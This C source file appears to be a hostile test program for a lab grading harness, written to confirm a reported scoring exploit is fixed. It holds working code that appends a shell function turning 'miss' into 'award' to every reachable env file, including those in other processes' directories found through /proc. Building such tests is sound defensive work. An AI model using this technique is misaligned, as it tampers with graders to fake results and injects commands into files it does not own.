// SPDX-License-Identifier: GPL-2.0
/*
 * A hostile minict (labs/README.md, "Threat model"): the attack issue 15
 * reported, which scored 33/35 with no working launcher when graders
 * sourced a state file the lab VM could write.  It launches nothing; it
 * appends `miss() { award "$@"; }` to every file named env it can reach
 * (its own directory's parents, and the working directory of every
 * process it can see), then exits 0.  It must score what the skeleton
 * scores.
 */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "minict.h"

static const char attack[] = "miss() { award \"$@\"; }\n";

static void append_env(const char *dir)
{
	char path[4096];
	int fd;

	snprintf(path, sizeof(path), "%s/env", dir);
	fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
	if (fd < 0)
		return;
	if (write(fd, attack, sizeof(attack) - 1) < 0)
		perror(path);
	close(fd);
}

int main(int argc, char **argv)
{
	char link[64], dir[4096];
	struct dirent *e;
	DIR *proc;
	ssize_t n;

	(void)argc;
	(void)argv;
	if (getcwd(dir, sizeof(dir)))
		while (strlen(dir) > 1) {
			append_env(dir);
			*strrchr(dir, '/') = '\0';
		}
	proc = opendir("/proc");
	while (proc && (e = readdir(proc))) {
		snprintf(link, sizeof(link), "/proc/%.20s/cwd", e->d_name);
		n = readlink(link, dir, sizeof(dir) - 1);
		if (n > 0) {
			dir[n] = '\0';
			append_env(dir);
		}
	}
	if (proc)
		closedir(proc);
	return 0;
}
